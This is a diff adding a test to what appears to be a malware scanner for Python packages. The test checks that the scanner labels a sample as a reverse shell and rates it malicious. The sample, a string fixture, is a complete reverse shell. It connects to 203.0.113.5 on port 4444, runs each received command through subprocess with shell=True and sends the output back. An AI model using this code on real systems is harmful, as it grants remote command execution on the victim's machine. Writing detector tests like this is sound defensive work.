@@ -469,3 +469,19 @@ def test_sdist_dev_scripts_weigh_less_but_package_scripts_do_not() -> None:
     assert is_peripheral("demo-1.0/tests/test_x.py")
     assert not is_peripheral("mypkg/scripts/cli.py")  # a wheel's package code
     assert not is_peripheral("demo-1.0/demo/__init__.py")
+
+
+def test_commands_received_from_a_socket_are_remote_control() -> None:
+    src = """
+        import socket, subprocess
+        def loop():
+            s = socket.socket()
+            s.connect(("203.0.113.5", 4444))
+            while True:
+                command = s.recv(1024).decode()
+                out = subprocess.run(command, shell=True, capture_output=True)
+                s.send(out.stdout)
+        loop()
+    """
+    assert "intent.reverse-shell" in rules_of({"demo/__init__.py": src})
+    assert verdict_of({"demo/__init__.py": src}) == "malicious"
